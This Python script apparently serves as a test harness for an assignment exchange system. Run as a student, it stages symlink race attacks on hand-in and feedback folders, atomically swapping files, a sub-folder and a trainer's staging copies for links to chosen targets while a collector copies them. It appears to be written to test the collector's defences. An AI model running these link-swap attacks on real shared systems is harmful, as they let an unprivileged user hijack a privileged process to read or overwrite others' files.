"""Attacks a student runs on their own exchange folders while a trainer copies out of them.

Run as the student, standalone (no imports from the project), bounded in rounds and time:

    runuser -u student2 -- python -I attackers.py swap INBOUND_OF_ME ASSIGNMENT SECONDS TARGET...
    runuser -u student2 -- python -I attackers.py staging FOLDER NAME SECONDS TARGET

`swap`: makes new hand-ins (``<assignment>+<time>``) in my inbound folder, at most
MAX_HAND_INS, and keeps swapping each of their files, and a sub-folder, for links to the
targets and back (atomic renames, so the collector sees either at any moment). Also
swaps the files of the hand-ins already there. Prints what it did as ``key=value``.

`staging`: in a feedback folder the student can write (the layout before issue #11),
keeps NAME a link to TARGET and swaps every staging copy a trainer makes there
(``.NAME.*``) for a link to TARGET.
"""

from __future__ import annotations

import os
import sys
import time
from datetime import datetime, timezone

MAX_HAND_INS = 12
SWAPS_PER_HAND_IN = 400
NAMES = ["a.ipynb", "b.ipynb", "c.txt", "timestamp.txt"]


def _swap_to(folder: str, name: str, target: str, k: int) -> None:
    tmp = os.path.join(folder, f".swap{k}")
    try:
        os.symlink(target, tmp)
        os.rename(tmp, os.path.join(folder, name))
    except OSError:
        pass


def _swap_back(folder: str, name: str, k: int) -> None:
    tmp = os.path.join(folder, f".swap{k}")
    try:
        with open(tmp, "w") as f:
            f.write('{"mine": "STUDENT-OWN-CONTENT"}\n')
        os.rename(tmp, os.path.join(folder, name))
    except OSError:
        pass


def _swap_dir(folder: str, target: str, k: int) -> None:
    """data/ <-> a link to a target folder."""
    real, link = os.path.join(folder, "data"), os.path.join(folder, ".data-real")
    try:
        if os.path.islink(real):
            os.unlink(real)              # back to the real one
            os.rename(link, real)
        else:
            os.rename(real, link)
            os.symlink(target, real)
    except OSError:
        pass


def _new_hand_in(inbound: str, assignment: str) -> str:
    stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%S.%fZ")
    folder = os.path.join(inbound, f"{assignment}+{stamp}")
    os.mkdir(folder, 0o750)
    for name in NAMES:
        _swap_back(folder, name, 0)
    os.mkdir(os.path.join(folder, "data"), 0o750)
    _swap_back(os.path.join(folder, "data"), "d.txt", 0)
    return folder


def swap(inbound: str, assignment: str, seconds: float, targets: list[str]) -> None:
    file_targets = [t for t in targets if not t.endswith("/")] or targets
    dir_targets = [t.rstrip("/") for t in targets if t.endswith("/")] or [t.rstrip("/") for t in targets]
    stop = time.monotonic() + seconds
    folders = sorted(os.path.join(inbound, n) for n in os.listdir(inbound) if n.startswith(f"{assignment}+"))
    made = swaps = 0
    while time.monotonic() < stop:
        if made < MAX_HAND_INS:
            folders.append(_new_hand_in(inbound, assignment))
            made += 1
        for k in range(SWAPS_PER_HAND_IN):
            if time.monotonic() >= stop:
                break
            folder = folders[k % len(folders)]
            name = NAMES[k % len(NAMES)]
            if k % 2 == 0:
                _swap_to(folder, name, file_targets[k % len(file_targets)], k)
            else:
                _swap_back(folder, name, k)
            if k % 7 == 0:
                _swap_dir(folder, dir_targets[k % len(dir_targets)], k)
            swaps += 1
        if made >= MAX_HAND_INS:
            time.sleep(0.01)   # 2 shared cores: keep swapping, but leave the collector room
    print(f"hand_ins={made} swaps={swaps}")


def staging(folder: str, name: str, seconds: float, target: str) -> None:
    stop = time.monotonic() + seconds
    swaps = k = 0
    while time.monotonic() < stop:
        k += 1
        try:
            entries = os.listdir(folder)
        except OSError:
            entries = []
        for entry in entries:
            path = os.path.join(folder, entry)
            if entry.startswith(f".{name}.") and entry.endswith(".new") and not os.path.islink(path):
                try:
                    os.rename(path, os.path.join(folder, f"moved{k}"))
                    os.symlink(target, path)
                    swaps += 1
                except OSError:
                    pass
        here = os.path.join(folder, name)
        if not os.path.islink(here):
            try:
                os.symlink(target, os.path.join(folder, f".l{k}"))
                os.rename(os.path.join(folder, f".l{k}"), here)
            except OSError:
                pass
        time.sleep(0.001)
    print(f"staging_swaps={swaps}")


if __name__ == "__main__":
    action, *args = sys.argv[1:]
    if action == "swap":
        swap(args[0], args[1], float(args[2]), args[3:])
    elif action == "staging":
        staging(args[0], args[1], float(args[2]), args[3])
    else:
        raise SystemExit(f"unknown attack {action!r}")
